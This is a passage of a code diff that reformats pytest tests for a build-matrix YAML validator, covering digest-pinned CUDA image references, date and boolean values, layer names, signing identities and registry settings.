-     "targets.cu129.bases.build: must be pinned by digest: add @sha256:<64 hex> to 'nvidia/cuda:12'"),
-    ("    expires: 2027-06-30\n", "    expires: soon\n", "targets.cu129.expires: must be a valid date YYYY-MM-DD (got 'soon')"),
-])
+@pytest.mark.parametrize(
+    "old,new,expected",
+    [
+        (
+            "        sha256: 5acfa3e9ba26b51ae161c83aff278da915b590d22373a424b2ba55b8afe91fcc\n",
+            "        sha256: ABC\n",
+            "targets.cu129.python.standalone.sha256: must be 64 lowercase hex characters (got 'ABC')",
+        ),
+        (
+            "      build: nvidia/cuda:12.9.1-devel-ubuntu22.04" + DEVEL_DIGEST + "\n",
+            "      build: 5\n",
+            "targets.cu129.bases.build: must be an image reference 'name[:tag]@sha256:<64 hex>' (got 5)",
+        ),
+        (
+            "      build: nvidia/cuda:12.9.1-devel-ubuntu22.04" + DEVEL_DIGEST + "\n",
+            "      build: 'Bad Ref!'\n",
+            "targets.cu129.bases.build: must be an image reference 'name[:tag]@sha256:<64 hex>' (got 'Bad Ref!')",
+        ),
+        (
+            "      build: nvidia/cuda:12.9.1-devel-ubuntu22.04" + DEVEL_DIGEST + "\n",
+            "      build: nvidia/cuda:12\n",
+            "targets.cu129.bases.build: must be pinned by digest: add @sha256:<64 hex> to 'nvidia/cuda:12'",
+        ),
+        (
+            "    expires: 2027-06-30\n",
+            "    expires: soon\n",
+            "targets.cu129.expires: must be a valid date YYYY-MM-DD (got 'soon')",
+        ),
+    ],
+)
 def test_value_messages_name_the_value(old, new, expected):
     assert old in SRC, old
     assert _error(SRC.replace(old, new, 1)) == f"matrix.yaml: {expected}"
@@ -563,45 +768,67 @@ def test_a_directory_is_not_a_matrix(tmp_path):
     assert info.value.message == f"{tmp_path}: not a regular file (the build matrix)"
 
 
-@pytest.mark.parametrize("value,expected", [
-    ("[1]", "Input should be a valid boolean (got [1])"),  # bool_type
-    ("maybe", "Input should be a valid boolean, unable to interpret input (got 'maybe')"),  # bool_parsing
-])
+@pytest.mark.parametrize(
+    "value,expected",
+    [
+        ("[1]", "Input should be a valid boolean (got [1])"),  # bool_type
+        ("maybe", "Input should be a valid boolean, unable to interpret input (got 'maybe')"),  # bool_parsing
+    ],
+)
 def test_a_boolean_key_says_what_it_got(value, expected):
     assert "remote_cache: true" in SRC
     assert _error(SRC.replace("remote_cache: true", f"remote_cache: {value}", 1)) == (
-        f"matrix.yaml: targets.cu129.compile.remote_cache: {expected}")
+        f"matrix.yaml: targets.cu129.compile.remote_cache: {expected}"
+    )
 
 
-@pytest.mark.parametrize("second,third,expected", [
-    ("base", None, "layers.1.name: 'base' is reserved or repeated"),
-    ("cuda", "x1", "layers.2.name: 'x1' is reserved or repeated"),
-])
+@pytest.mark.parametrize(
+    "second,third,expected",
+    [
+        ("base", None, "layers.1.name: 'base' is reserved or repeated"),
+        ("cuda", "x1", "layers.2.name: 'x1' is reserved or repeated"),
+    ],
+)
 def test_layer_names_are_neither_the_tools_nor_repeated(second, third, expected):
     layers = f"    layers:\n    - name: x1\n      match: [a]\n    - name: {second}\n      match: [b]\n"
     if third:
         layers += f"    - name: {third}\n      match: [c]\n"
     text = SRC.replace("    expires: 2027-06-30\n", "    expires: 2027-06-30\n" + layers, 1)
-    assert _error(text) == f"matrix.yaml: targets.cu129.{expected} (base, deps, app, app-native, app-python are the tool's own layers)"
+    assert (
+        _error(text)
+        == f"matrix.yaml: targets.cu129.{expected} (base, deps, app, app-native, app-python are the tool's own layers)"
+    )
 
 
-@pytest.mark.parametrize("identity,ok", [
-    ("https://github.com/o/r/.github/workflows/k3-branch.yml@refs/heads/main", True),
-    ("release-bot@example.org", True), ("https://github.com/K3-Org/Images/.github/workflows/b.yml@refs/heads/main", True),
-    ("http://github.com/o/r", False), ("https://github.com", False), ("not an identity", False), ("a@b c", False),
-])
+@pytest.mark.parametrize(
+    "identity,ok",
+    [
+        ("https://github.com/o/r/.github/workflows/k3-branch.yml@refs/heads/main", True),
+        ("release-bot@example.org", True),
+        ("https://github.com/K3-Org/Images/.github/workflows/b.yml@refs/heads/main", True),
+        ("http://github.com/o/r", False),
+        ("https://github.com", False),
+        ("not an identity", False),
+        ("a@b c", False),
+    ],
+)
 def test_a_signing_identity_is_a_workflow_url_or_an_e_mail(monkeypatch, identity, ok):
     monkeypatch.setenv("K3_SIGNING_IDENTITY", identity)
     if ok:
         assert matrix.parse(SRC, PATH).target("cu129").signing.identity == identity
     else:
-        assert _error(SRC) == ("matrix.yaml: targets.cu129.signing.identity (from $K3_SIGNING_IDENTITY): must be a "
-                               f"certificate identity: a workflow URL or an e-mail (got {identity!r})")
+        assert _error(SRC) == (
+            "matrix.yaml: targets.cu129.signing.identity (from $K3_SIGNING_IDENTITY): must be a "
+            f"certificate identity: a workflow URL or an e-mail (got {identity!r})"
+        )
 
 
 def test_a_target_that_has_its_own_image_is_named_even_when_defaults_have_one(monkeypatch):
-    both = SRC.replace("\ndefaults:\n", "\ndefaults:\n  image:\n    registry: ghcr.io\n    repository: k3-cu129/vllm-openai\n"
-                                        "    tag: kimi-k3-cu129\n", 1)
+    both = SRC.replace(
+        "\ndefaults:\n",
+        "\ndefaults:\n  image:\n    registry: ghcr.io\n    repository: k3-cu129/vllm-openai\n    tag: kimi-k3-cu129\n",
+        1,
+    )
     monkeypatch.setenv("K3_REGISTRY", "bad host!")
     assert _error(both).startswith("matrix.yaml: targets.cu129.image.registry (from $K3_REGISTRY): must be a registry")
 
